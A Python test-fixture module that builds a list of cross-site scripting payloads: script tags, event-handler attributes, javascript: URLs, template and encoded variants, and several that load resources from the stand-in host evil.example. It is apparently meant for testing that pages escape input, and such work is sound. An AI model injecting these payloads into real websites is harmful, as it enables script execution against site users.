"""Texts that would run as code wherever a page took them for more than text."""

from __future__ import annotations

_DEEDS = ("window.ran=1", "document.title='ran'", "fetch('/ran')")
_SHAPES = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "</script><script>{}</script>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "--><script>{}</script><!--",
    "<img src=x onerror={}>",
    '<img src=x onerror="{}">',
    '"><img src=x onerror="{}">',
    "'><img src=x onerror='{}'>",
    '" onmouseover="{}" autofocus onfocus="{}" x="',
    "' onfocus='{}' autofocus='",
    "<svg onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror={}>",
    "<details open ontoggle={}>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src=javascript:{}>",
    "<a href=javascript:{}>x</a>",
    "<object data=javascript:{}>",
    "<form><button formaction=javascript:{}>x</button></form>",
    "<base href=//evil.example/><script>{}</script>",
    "<style>@import '//evil.example/{}';</style>",
    "<link rel=stylesheet href=//evil.example/{}>",
    "<meta http-equiv=refresh content=0;url=javascript:{}>",
    "<template><script>{}</script></template>",
    "{{{{ {} }}}}",
    "{{% raw %}}<script>{}</script>{{% endraw %}}",
    "${{{}}}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "data: {}\\n\\nevent: leave",
)
PAYLOADS = tuple(
    shape.replace("{}", deed) if "{{" not in shape else shape.format(deed)
    for shape in _SHAPES
    for deed in _DEEDS
)
